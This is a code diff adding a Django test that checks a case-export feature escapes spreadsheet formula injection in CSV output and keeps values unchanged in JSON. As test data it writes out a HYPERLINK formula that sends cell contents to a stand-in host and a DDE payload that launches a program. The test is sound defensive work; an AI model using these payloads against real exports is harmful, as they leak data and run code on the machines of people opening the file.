@@ -155,3 +155,29 @@ def test_an_invalid_file_is_a_400_naming_each_row_and_field_and_writes_nothing(c
         answer = client.post(URL, {"file": upload}, format="multipart")
         assert answer.status_code == 400 and message in answer.content.decode()
     assert client.post(URL, {}, format="multipart").status_code == 400
+
+
+@pytest.mark.django_db
+def test_a_name_that_looks_like_a_formula_is_text_in_the_csv_and_unchanged_in_json(cast, api):
+    """Formula injection (review 2): a trafficker who calls the hotline gives the name
+    `=HYPERLINK("http://evil/?"&A1,"x")`; the HTCDS CSV carried it as typed, and the spreadsheet the
+    coordinator opens it in ran it (DDE `+cmd|…` starts a program). Such a cell now starts with an
+    apostrophe; the JSON export keeps the value as typed, and reading the CSV back restores it."""
+    import csv
+
+    from nicat.exchange import htcds
+
+    chief = _chief(cast)
+    family, given, summary = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+cmd|' /C calc'!A0"
+    cast.open_case(actor=chief, person={"family_name": family, "given_name": given}, summary=summary)
+    client = api(chief)
+    text = client.get(URL, {"format": "csv", "purpose": PURPOSE}).content.decode("utf-8")
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["prs_SecondName"] == "'" + family and row["prs_FirstName"] == "'" + given
+    assert row["nct_Summary"] == "'" + summary
+    formulas = [v for r in csv.reader(io.StringIO(text)) for v in r if v[:1] in ("=", "+", "-", "@")]
+    assert not formulas, f"cells a spreadsheet runs: {formulas}"
+    record = json.loads(client.get(URL, {"format": "json", "purpose": PURPOSE}).content)["cases"][0]
+    assert (record["prs_SecondName"], record["prs_FirstName"], record["nct_Summary"]) == (family, given, summary)
+    back = htcds.loads(text, "csv").cases[0]
+    assert (back["prs_SecondName"], back["prs_FirstName"], back["nct_Summary"]) == (family, given, summary)
